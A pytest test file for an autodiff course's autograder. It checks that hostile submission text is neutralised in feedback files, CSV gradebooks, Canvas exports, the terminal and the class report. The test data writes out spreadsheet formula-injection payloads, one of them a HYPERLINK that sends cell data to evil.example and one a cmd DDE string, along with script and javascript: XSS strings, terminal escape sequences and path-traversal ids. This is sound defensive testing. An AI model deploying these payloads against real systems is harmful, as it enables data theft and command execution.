"""What a hostile submission can do to the grader's *output*: the text it chooses (exception
messages, class names, file names) reaches messages, files, the terminal, CSV cells and the
class report only through ``text.untrusted``, capped; a name never turns a cell into a
formula, a link into a script or an output file into a folder; and no submission's fault,
or the grader's, stops the batch (issue 13, rows 1-4, 7, 9-12).

Each real-grading case is the reference plus one trick, graded in one batch with an honest
submission (the reference with add's ``=`` instead of ``+=``) whose score must not change.
"""
import csv
import html
import io
import json
import re
import time

import pytest
from hypothesis import given
from hypothesis import strategies as st
from markdown_it import MarkdownIt
from rich.console import Console

from autograder import examples, grade, report, text
from autograder.platforms import canvas
from autograder.reports import classreport, graphfeedback
from autograder.text import from_spreadsheet_cell, markdown_text, spreadsheet_cell, untrusted

from conftest import ASSIGN_INSTEAD_OF_ADD, FAST, in_backward, notebook, write_submission

FORBIDDEN = re.compile("[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028\u2029\u202a-\u202e\u2066-\u2069"
                       "\ud800-\udfff]")


# --- the one gate -------------------------------------------------------------------------


@given(st.one_of(st.text(), st.binary(), st.integers(), st.none()), st.integers(min_value=1, max_value=300))
def test_untrusted_text_is_clean_utf8_within_its_limit(value, limit):
    cleaned = untrusted(value, limit)
    cleaned.encode("utf-8")  # raises on a lone surrogate
    assert len(cleaned) <= limit
    assert not FORBIDDEN.search(cleaned) and "\n" not in cleaned and "\t" not in cleaned
    assert untrusted(cleaned, limit) == cleaned  # a second pass changes nothing


def test_untrusted_keeps_ordinary_text_and_marks_a_cut():
    assert untrusted("ZeroDivisionError: float division by zero", 100) == "ZeroDivisionError: float division by zero"
    assert untrusted("é ✓ 你好", 100) == "é ✓ 你好"
    assert untrusted("\x1b[2J\x07\u202egnp.exe\ud800", 100) == "?[2J??gnp.exe\ufffd"
    cut = untrusted("x" * 4_000_000, 80)
    assert len(cut) <= 80 and cut.endswith("(4,000,000 characters, cut)")
    assert untrusted("line 1\r\nline 2\tend\x1b", 100, lines=True) == "line 1\nline 2\tend?"


def test_untrusted_costs_the_limit_not_the_input():
    """A 40 MB message is cut before it is cleaned (CPU time, not wall-clock: the machine is shared)."""
    huge = "\x1b" * 40_000_000
    started = time.process_time()
    for _ in range(20):
        untrusted(huge, text.DETAIL)
    assert time.process_time() - started < 2.0  # cleaning 40 MB twenty times would take far longer


@given(st.text())
def test_spreadsheet_cells_round_trip_and_never_start_a_formula(value):
    cell = spreadsheet_cell(value)
    assert from_spreadsheet_cell(cell) == value
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_plural():
    assert (text.plural(1, "submission"), text.plural(2, "submission"), text.plural(0, "check")) == \
        ("1 submission", "2 submissions", "0 checks")


# --- Markdown: feedback.md (issue 13: student-derived text is data) ---------------------------

# What a submission raised in backward() (the reviewer's case): remote images, a script, a
# javascript: link and a fake verdict.
MARKUP = ("<script>alert(1)</script> <img src=http://127.0.0.1:9/px.png> ![t](http://x/t.png) "
          "[click](javascript:alert(1)) **passed**")
# Markdown viewers: CommonMark with raw HTML on (as GitHub and most editors render a .md file),
# and the GitHub-like preset (tables, strikethrough; its bare-link finder needs linkify-it-py, not installed).
VIEWERS = [MarkdownIt("commonmark", {"html": True}), MarkdownIt("gfm-like", {"html": True, "linkify": False})]
ACTIVE = re.compile(r"<(?!/?(p|ul|li|strong|h1|h2)>)")  # any tag but the paragraphs, lists, bold, headings


def rendered_item(markdown):
    """What each viewer shows for "- <markdown>" nested in a verdict's item: the item's text,
    or None when the viewer makes anything else of it (a tag, another block)."""
    shown = []
    for viewer in VIEWERS:
        page = viewer.render(f"- **FAILED** a check: 0 / 1\n  - {markdown}\n")
        found = re.fullmatch(r"<ul>\n<li><strong>FAILED</strong> a check: 0 / 1\n<ul>\n<li>(.*)</li>\n</ul>\n</li>\n</ul>\n",
                             page, re.S)
        shown.append(html.unescape(found.group(1)) if found and "<" not in found.group(1) else None)
    return shown


@given(st.text())
def test_markdown_text_renders_as_exactly_the_clean_text(value):
    written = markdown_text(value, 200)
    assert "\n" not in written and len(written) <= 2 * 200 + 1
    expected = untrusted(value, 200).strip()
    if not expected:  # nothing to show: the writers then leave the item out
        assert written == ""
        return
    shown = rendered_item(written)
    assert shown == [expected] * len(VIEWERS), (written, shown)
    # feedback.html, the kit's own twin of feedback.md, shows the same text
    page = graphfeedback.markdown_to_html(f"# F\n\n- {written}\n")
    assert html.unescape(re.search(r"<li>(.*)</li>", page, re.S).group(1)) == expected


@pytest.mark.parametrize("value", [MARKUP, "# not a heading", "- not an item", "1. not a list", "12) nor this",
                                   "> no quote", "    not code", "```", "&#x202e;gnp.exe", "__init__ ~~x~~ $x$",
                                   "see www.evil.example or https://evil.example/x", "a | b", "x\\"])
def test_markdown_text_turns_markup_into_the_text_itself(value):
    assert rendered_item(markdown_text(value)) == [untrusted(value).strip()] * len(VIEWERS)


def test_markdown_text_keeps_plain_messages_readable():
    message = "(a * 2).grad = 1.0, expected 2.0 (line 3 of cell 1.py, in backward)"
    assert markdown_text(message) == "(a \\* 2).grad = 1.0, expected 2.0 (line 3 of cell 1.py, in backward)"
    assert markdown_text("é ✓ 你好: x - y") == "é ✓ 你好: x - y"


def test_feedback_md_shows_every_record_string_as_text_and_keeps_the_kits_markup(tmp_path):
    id = "_eve_ **x** ![t](x.png) [a](javascript:alert(1))"
    record = record_for(id, MARKUP, MARKUP)
    report.write_submission(tmp_path, record)
    written = (tmp_path / id / report.FEEDBACK).read_text()
    for viewer in VIEWERS:
        page = viewer.render(written)
        assert not ACTIVE.search(page), page  # no image, link, script or code: only the kit's structure
        assert "<strong>passed" not in page and "<em>" not in page
        assert "&lt;script&gt;alert(1)&lt;/script&gt;" in page and "**passed**" in page
        assert f"<h1>Feedback: {html.escape(id, quote=False)}</h1>" in page  # the kit's heading, the id as text
        assert page.count("<strong>FAILED</strong>") == len(record["tests"])
        assert "<strong>Score: 0 / " in page
    twin = (tmp_path / id / "feedback.html").read_text()
    assert "<script>" not in twin and "<img" not in twin and "<a " not in twin
    assert "&lt;script&gt;" in twin and "**passed**" in twin and "<strong>FAILED</strong>" in twin
    assert f"<title>Feedback: {html.escape(id)}</title>" in twin


# --- writers, whatever id and text they are given (rows 9-12) --------------------------------

HOSTILE_IDS = ["=HYPERLINK(\"http://evil.example/?\"&A1)+1", "+1", "-2+3", "@SUM(A1:A9)", "\tx", "\rx",
               "esc-\x1b[2J\x1b]0;owned\x07-bel", "bad-\udcff-byte", "[red]markup[/red]", "javascript:alert(1)",
               "rtl-\u202egnp.py", ":smile:"]


def record_for(id, message="", detail="", checks=None):
    checks = checks or grade.compile_checks(7)[:3]
    tests = [grade._test(c, 0.0, message, detail) for c in checks]
    return grade._finish({"id": id, "path": id, "status": "graded", "message": message, "isolation": "rlimits",
                          "digest": "d", "worker_starts": 1, "output": message, "seed": 7, "checks_hash": "h",
                          "seconds": 0.1, "notes": [message]}, tests)


def test_gradebook_neutralises_formulas_and_control_characters():
    rows = [report.row_from_record(record_for(id)) for id in HOSTILE_IDS]
    written = report.gradebook_csv(rows, [])
    assert not FORBIDDEN.search(written.replace("\n", ""))
    cells = [row[0] for row in csv.reader(io.StringIO(written))][1:]
    assert not any(cell.startswith(("=", "+", "-", "@", "\t", "\r")) for cell in cells)
    assert cells[0] == "'=HYPERLINK(\"http://evil.example/?\"&A1)+1"
    assert [from_spreadsheet_cell(c) for c in cells[:4]] == HOSTILE_IDS[:4]  # read back as written


def test_terminal_table_shows_names_as_plain_clean_text():
    console = Console(file=io.StringIO(), width=200, color_system=None, force_terminal=False)
    rows = [report.row_from_record(record_for(id, "raised \x1b[31mRed\x07 [bold]x[/bold]")) for id in HOSTILE_IDS]
    console.print(report.summary_table(rows, title="1 submission in OUT [x]"))
    printed = console.file.getvalue()
    assert "\x1b" not in printed and "\x07" not in printed and "\u202e" not in printed
    assert "[red]markup[/red]" in printed and "[bold]x[/bold]" in printed  # shown, not interpreted
    assert ":smile:" in printed and "OUT [x]" in printed


def test_files_of_a_submission_hold_clean_text_whatever_the_record_says(tmp_path):
    nasty = "\ud800 lone surrogate, \x1b[2J escape, \x07 bell, \u202e override, " + "long " * 100_000
    record = record_for("alice", nasty, nasty)
    record["tests"][0]["message"] = nasty  # as if another caller had skipped grade.py's gate
    report.write_submission(tmp_path, record)
    for name in (report.RESULTS, report.FEEDBACK, "feedback.html", report.OUTPUT):
        written = (tmp_path / "alice" / name).read_text(encoding="utf-8")
        assert not FORBIDDEN.search(written.replace("\n", "").replace("\t", ""))
        assert len(written) <= (text.OUTPUT if name == report.OUTPUT else 4 * text.SUBMISSION)
    results = json.loads((tmp_path / "alice" / report.RESULTS).read_text())
    assert results["tests"] and all(isinstance(t["output"], str) for t in results["tests"])


@pytest.mark.parametrize("id", [report.GRADEBOOK, "report.html", "canvas.csv", "canvas-unmatched.txt",
                                ".autodiff101.json", ".hidden", "..", ".", "", "a/b", "a\\b", "esc\x1b", "nul\x00",
                                "bad-\udcff"])
def test_an_id_that_cannot_name_a_folder_of_out_is_refused_before_anything_is_written(tmp_path, id):
    with pytest.raises(report.UnsafeId):
        report.write_submission(tmp_path, record_for(id))
    assert list(tmp_path.iterdir()) == []
    assert report.read_results(tmp_path, id) is None


def test_reserved_names_are_the_files_out_holds():
    assert {report.GRADEBOOK, classreport.REPORT, canvas.CANVAS, canvas.UNMATCHED, grade.STATE} == set(report.RESERVED)


def test_report_links_are_relative_encoded_and_inside_out(tmp_path):
    out = tmp_path / "OUT"
    ids = ["javascript:alert(1)", "%2e%2e", "a b#c?d", "=1+1"]
    for id in ids:
        report.write_submission(out, record_for(id))
    report.write_submission(tmp_path / "elsewhere", record_for("linked"))
    (out / "linked").symlink_to(tmp_path / "elsewhere" / "linked")  # a folder of OUT that leads out of it
    report.write_gradebook(out, [report.row_from_record(record_for(id)) for id in [*ids, "linked"]], [])
    data = classreport.read_batch(out)
    links = {s.id: s.feedback for s in data.submissions}
    assert links == {"javascript:alert(1)": "./javascript%3Aalert%281%29/feedback.html",
                     "%2e%2e": "./%252e%252e/feedback.html", "a b#c?d": "./a%20b%23c%3Fd/feedback.html",
                     "=1+1": "./%3D1%2B1/feedback.html", "linked": ""}
    page = classreport.render(data)
    anchors = re.findall(r'<a href="([^"]*)"', page)
    feedback = [a for a in anchors if a.endswith("/feedback.html")]
    assert len(feedback) == 4 and all(a.startswith("./") and ":" not in a for a in anchors)


def test_canvas_file_neutralises_formulas_and_matches_neutralised_ids(tmp_path, capsys):
    rows = [report.row_from_record(record_for(id)) for id in ["=cmd|' /C calc'!A0", "[red]x[/red]\x1b"]]
    report.write_gradebook(tmp_path, rows, [])
    roster = tmp_path / "roster.csv"
    roster.write_text("Student,ID,SIS User ID,SIS Login ID,Section\n"
                      "\"=HYPERLINK(\"\"http://evil.example\"\")\",1,u1,=cmd|' /C calc'!A0,@s\n")
    assert canvas.command(tmp_path, roster, "HW (1)", console=Console(file=io.StringIO(), color_system=None)) == 0
    written = list(csv.reader(io.StringIO((tmp_path / canvas.CANVAS).read_text())))
    assert written[2][0].startswith("'=") and written[2][3].startswith("'=") and written[2][4] == "'@s"
    assert written[2][5] == "0"  # the neutralised id in grades.csv still matched its roster row
    unmatched = (tmp_path / canvas.UNMATCHED).read_text()
    assert "\x1b" not in unmatched and "[red]x[/red]?" in unmatched


# --- real grading -----------------------------------------------------------------------------

HONEST = "honest"
LONG_NAME = 3_500_000  # characters: a class name just under the worker's 4 MB reply cap
# Replaces backward() by the honest one, then makes the root's grad an object of a class
# named NAME (the worker reports {"not_a_number": NAME}).
ODD_GRAD = """
_honest_backward = Value.backward
def _odd_backward(self):
    _honest_backward(self)
    self.{attribute} = type({name}, (), {{}})()
Value.backward = _odd_backward
"""


@pytest.fixture(scope="module")
def hostile_batch(tmp_path_factory):
    """One batch: the honest submission, and one submission per trick (rows 1-4, 7 and the
    names of rows 9-12), graded as `autodiff101 grade` would."""
    root = tmp_path_factory.mktemp("hostile-output")
    subs = root / "subs"
    write_submission(subs, HONEST, ASSIGN_INSTEAD_OF_ADD)
    write_submission(subs, "surrogate", ASSIGN_INSTEAD_OF_ADD, in_backward('raise ValueError("\\ud800 \\x1b[2J")'))
    write_submission(subs, "cell 1", ASSIGN_INSTEAD_OF_ADD, in_backward('raise NotImplementedError("TODO")'))
    write_submission(subs, "markup", ASSIGN_INSTEAD_OF_ADD, in_backward(f"raise ValueError({MARKUP!r})"))
    phrase = "; (a * 2).grad = 1.0, expected 2.0 (it looks as if"
    write_submission(subs, "regex-bait", ASSIGN_INSTEAD_OF_ADD,
                     after=ODD_GRAD.format(attribute="data", name=f"{phrase!r} * 20_000"))
    write_submission(subs, "type-name-leak", ASSIGN_INSTEAD_OF_ADD,
                     after=ODD_GRAD.format(attribute="grad", name="'SPELLS_THE_GRAPH_a_is_two_point_five'"))
    write_submission(subs, "huge-name", ASSIGN_INSTEAD_OF_ADD,
                     after=ODD_GRAD.format(attribute="grad", name=f"'N' * {LONG_NAME}"))
    for name in ("grades.csv", "report.html", "javascript:alert(document.domain)", '=HYPERLINK("x.example")+1',
                 "esc-\x1b[2J-bel-\x07"):
        write_submission(subs, name, ASSIGN_INSTEAD_OF_ADD)
    alone = grade.grade([subs / f"{HONEST}.py"], out=root / "alone", jobs=1, seed=5, limits=FAST)
    out = root / "OUT"
    console = Console(file=io.StringIO(), width=120, color_system=None, force_terminal=False)
    started = time.process_time()
    status = grade.command([subs], console=console, out=out, jobs=2, seed=5, limits=FAST)
    cpu = time.process_time() - started
    return {"out": out, "status": status, "printed": console.file.getvalue(), "cpu": cpu,
            "alone": alone.rows[0]["score"], "rows": _rows(out)}


def _rows(out):
    with open(out / report.GRADEBOOK, encoding="utf-8") as stream:
        return {from_spreadsheet_cell(r["submission"]): r for r in csv.DictReader(stream)}


def results(out, id):
    return report.read_results(out, id)


def test_every_submission_gets_a_row_and_the_honest_one_its_own_score(hostile_batch):
    rows = hostile_batch["rows"]
    assert len(rows) == 12
    assert float(rows[HONEST]["score"]) == hostile_batch["alone"] and rows[HONEST]["status"] == "graded"
    assert (hostile_batch["out"] / report.GRADEBOOK).is_file()
    assert hostile_batch["status"] in (0, 3)  # 3 only for ids the loader let through unsafely


def test_lone_surrogate_in_an_exception_is_written_as_replacement_text(hostile_batch):
    """Row 1: writing feedback.md once raised UnicodeEncodeError and aborted the batch."""
    out = hostile_batch["out"]
    assert hostile_batch["rows"]["surrogate"]["status"] == "graded"
    feedback = (out / "surrogate" / report.FEEDBACK).read_text(encoding="utf-8")
    assert "ValueError while backward() on a chain of 3000 nodes: \ufffd ?\\[2J" in feedback  # "[" escaped
    assert "\x1b" not in feedback and "\ud800" not in feedback


def test_a_file_named_like_a_cell_is_graded_not_a_fault(hostile_batch):
    """Row 2: the place parser split "cell 1.py:12" on ", line " and raised."""
    row = hostile_batch["rows"]["cell 1"]
    assert row["status"] == "graded"
    feedback = (hostile_batch["out"] / "cell 1" / report.FEEDBACK).read_text()
    assert re.search(r"\(line \d+ of cell 1\.py, in backward\)", feedback)  # the student's own file name


def test_text_that_baits_a_parser_costs_nothing(hostile_batch):
    """Row 3: a regular expression over a verdict's text once ran for minutes. The grading
    process's CPU for the whole batch (its workers are other processes) stays small."""
    assert hostile_batch["rows"]["regex-bait"]["status"] == "graded"
    assert hostile_batch["cpu"] < 60  # CPU seconds of this process; the old parser took minutes for one


def test_hidden_checks_never_name_a_type_the_submission_chose(hostile_batch):
    """Row 4: "is a <class name>, not a number" carried the class name into hidden checks."""
    data = results(hostile_batch["out"], "type-name-leak")
    hidden = [t for t in data["tests"] if t["visibility"] != "visible"]
    public = [t for t in data["tests"] if t["visibility"] == "visible" and t["status"] == "failed"]
    assert hidden and not any("SPELLS_THE_GRAPH" in t["output"] for t in hidden)
    assert any("is not a number" in t["output"] for t in hidden)
    assert any("SPELLS_THE_GRAPH" in t["output"] for t in public)  # a public detail may say it


def test_a_huge_class_name_cannot_make_the_grader_write_much(hostile_batch):
    """Row 7: a 3.9 MB class name copied into every check once wrote 246 MB."""
    folder = hostile_batch["out"] / "huge-name"
    written = sum(p.stat().st_size for p in folder.rglob("*") if p.is_file())
    assert written < 1_000_000
    data = results(hostile_batch["out"], "huge-name")
    assert sum(len(t["output"]) for t in data["tests"]) <= text.SUBMISSION + 300 * len(data["tests"])


def test_names_that_collide_with_out_or_carry_code_harm_no_output(hostile_batch):
    """Rows 9-12 from the outside: grades.csv stays a file, no cell is a formula, the report
    links only inside OUT, and the terminal gets no escape sequence."""
    out, printed = hostile_batch["out"], hostile_batch["printed"]
    assert (out / report.GRADEBOOK).is_file() and not (out / "report.html").is_dir()
    gradebook = (out / report.GRADEBOOK).read_text(encoding="utf-8")
    assert not FORBIDDEN.search(gradebook.replace("\n", ""))
    assert not any(line.startswith(("=", "+", "-", "@")) for line in gradebook.splitlines())
    assert "\x1b" not in printed and "\x07" not in printed
    assert classreport.command(out) == 0
    page = (out / classreport.REPORT).read_text()
    anchors = re.findall(r'<a href="([^"]*)"', page)
    assert anchors and all(a.startswith("./") and ":" not in a for a in anchors)
    for anchor in anchors:
        from urllib.parse import unquote

        assert (out / unquote(anchor)).resolve().is_file()
        assert (out / unquote(anchor)).resolve().is_relative_to(out.resolve())


def test_a_submission_that_sleeps_and_crashes_is_bounded_once_and_says_it_waited(tmp_path):
    """A notebook of cells that each sleep, with os._exit in backward(): every check's fresh
    worker sleeps through the cells again. Its total wall-clock time is one bound
    (worker.submission_wall_seconds: twice the CPU budget plus the slack; 17 s at FAST, 245 s
    by default), and the checks left say it used up its waiting, not its CPU time."""
    from autograder.worker import submission_wall_seconds

    module = examples.patched(examples.one_module(), [in_backward("import os; os._exit(0)")])
    path = tmp_path / "subs" / "sleeper.ipynb"
    path.parent.mkdir()
    path.write_text(notebook([module] + ["import time; time.sleep(1.5)"] * 4))
    batch = grade.grade([path], out=tmp_path / "OUT", jobs=1, seed=5, limits=FAST)
    data = report.read_results(tmp_path / "OUT", batch.rows[0]["id"])
    skipped = [t["output"] for t in data["tests"] if "not run: " in t["output"]]
    assert skipped, [t["output"] for t in data["tests"]]
    wall = submission_wall_seconds(FAST, FAST.submission_timeout)
    assert wall == FAST.submission_timeout * 2 + FAST.wall_slack
    assert all(f"used up its {wall:g} s of waiting" in output and "CPU" not in output for output in skipped)


def test_markup_raised_by_a_submission_reaches_feedback_md_as_text(hostile_batch):
    """The reviewer's case, graded for real: feedback.md (and its twin) show the exception's
    markup as text, while the kit's headings and verdicts stay markup."""
    folder = hostile_batch["out"] / "markup"
    written = (folder / report.FEEDBACK).read_text()
    assert MARKUP not in written  # never verbatim
    passed = sum(t["status"] == "passed" for t in results(hostile_batch["out"], "markup")["tests"])
    for viewer in VIEWERS:
        page = viewer.render(written)
        assert "<script" not in page and "<a " not in page
        assert all(src.startswith("graphs/") for src in re.findall(r'<img src="([^"]*)"', page))  # the kit's pictures only
        assert page.count("<strong>passed</strong>") == passed  # the kit's verdicts, none of the submission's
        assert html.escape(MARKUP, quote=False) in page  # the exception's text, as it was raised
        assert "<strong>FAILED</strong>" in page and "<h2>" in page
    twin = (folder / "feedback.html").read_text()
    assert "<img" not in twin and "<script>" not in twin and html.escape(MARKUP) in twin
    assert hostile_batch["rows"]["markup"]["status"] == "graded"
